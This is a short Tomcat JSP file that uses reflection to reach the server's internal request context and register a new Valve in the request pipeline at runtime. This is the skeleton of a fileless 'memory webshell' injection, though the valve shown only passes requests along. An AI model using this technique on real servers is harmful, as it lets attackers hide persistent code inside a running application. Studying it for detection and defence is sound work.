<%@ page import="java.lang.reflect.Field,org.apache.catalina.connector.Request,org.apache.catalina.valves.ValveBase" %>
<%
  Field rf = request.getClass().getDeclaredField("request");
  rf.setAccessible(true);
  Request inner = (Request) rf.get(request);
  org.apache.catalina.core.StandardContext std = (org.apache.catalina.core.StandardContext) inner.getContext();
  std.getPipeline().addValve(new ValveBase() {
    public void invoke(Request rq, org.apache.catalina.connector.Response rs) throws java.io.IOException, ServletException {
      getNext().invoke(rq, rs);
    }
  });
%>
